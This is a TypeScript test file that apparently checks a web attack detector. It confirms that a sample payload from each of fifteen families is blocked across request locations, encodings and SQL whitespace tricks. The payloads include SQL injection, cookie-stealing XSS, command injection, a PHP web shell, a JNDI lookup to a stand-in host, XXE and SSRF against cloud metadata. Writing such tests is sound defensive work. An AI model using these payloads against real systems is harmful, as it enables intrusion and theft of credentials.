// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks are written like that
import { describe, expect, it } from 'vitest'
import { type Encoding, encode, encodings } from '../../bench/detection/encodings.ts'
import { createInProcessJudge } from '../../bench/detection/in-process.ts'
import { type Place, places, requestWith } from '../../bench/detection/requests.ts'

/** One plain attack of each family. */
const attacks: Readonly<Record<string, string>> = {
  sqli: "1' union select login, password from users-- ",
  xss: '<img src=x onerror=alert(document.cookie)>',
  traversal: '../../../../etc/passwd',
  cmdi: '127.0.0.1; cat /etc/passwd',
  template: "{{ ''.__class__.__mro__[1].__subclasses__() }}",
  jndi: '${jndi:ldap://x.example/a}',
  java: 'T(java.lang.Runtime).getRuntime().exec("id")',
  php: '<?php system($_GET["c"]); ?>',
  script: "require('child_process').execSync('id')",
  nosql: "' || this.password.match(/^a/) || '1'=='2",
  ldap: '*)(uid=*))(|(uid=*',
  xpath: "'] | //user/password | //x['",
  xxe: '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
  ssrf: 'http://169.254.169.254/latest/meta-data/iam/',
  objects: 'O:8:"Evil\\Gone":1:{s:1:"c";s:2:"id";}',
}

/** Names in Java and PHP and hex digits of files are told by their case. */
const told: Partial<Record<Encoding, readonly string[]>> = { case: ['java', 'script', 'template', 'objects'] }

const judge = await createInProcessJudge(80)

async function missed(family: string, encoding: Encoding): Promise<readonly Place[]> {
  const text = encode(attacks[family]!, encoding)
  const verdicts = await Promise.all(places.map((place) => judge.judge(requestWith(text, place))))
  return places.filter((_, i) => !verdicts[i]!.blocked)
}

describe('an attack is refused wherever it stands', () => {
  const cases = Object.keys(attacks).flatMap((family) =>
    encodings.filter((encoding) => !told[encoding]?.includes(family)).map((encoding) => ({ family, encoding })),
  )
  it.each(cases)('$family, $encoding', async ({ family, encoding }) => {
    expect(await missed(family, encoding)).toEqual([])
  })
})

describe('an attack in two layers of different kinds is refused', () => {
  const pairs = ['percent', 'unicode', 'html', 'escape', 'base64'] as const
  const cases = pairs.flatMap((outer) => pairs.filter((inner) => inner !== outer).map((inner) => ({ outer, inner })))
  it.each(cases)('$inner inside of $outer', async ({ outer, inner }) => {
    const text = encode(encode(attacks.sqli!, inner), outer)
    for (const place of ['query', 'form', 'json', 'cookie', 'xml'] as const)
      expect(await judge.judge(requestWith(text, place)), place).toMatchObject({ blocked: true })
  })
})

describe('SQL in disguise is refused', () => {
  const words = "1' union select login , password from users -- x".split(' ')
  it.each([
    ['/**/'],
    ['/*!*/'],
    ['\t'],
    ['\n'],
    ['\r\n'],
    ['\v'],
    ['\f'],
    ['\u00a0'],
    ['  \t '],
    ['/*a*//*b*/'],
    ['--\n'],
    ['#x\n'],
  ])('blanks written as %j', async (blank) => {
    const text = `${words.slice(0, -2).join(blank)}-- x`
    expect(await judge.judge(requestWith(text, 'form'))).toMatchObject({ blocked: true })
  })
})
